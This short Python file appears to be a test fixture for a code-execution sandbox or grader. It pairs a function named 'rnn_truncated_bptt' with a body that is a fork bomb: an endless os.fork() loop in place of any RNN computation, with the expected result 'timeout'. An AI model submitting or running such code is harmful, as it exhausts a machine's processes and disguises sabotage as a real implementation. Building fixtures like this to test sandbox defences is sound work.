"""Fork bomb when the function is called."""
CELLS = {"rnn_truncated_bptt": '''
import os
def rnn_truncated_bptt(x, h0, Wx, Wh, b, dh, k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''}
ZERO = ("rnn_truncated_bptt",)
STATUS = "timeout"
STOCK_SAFE = False
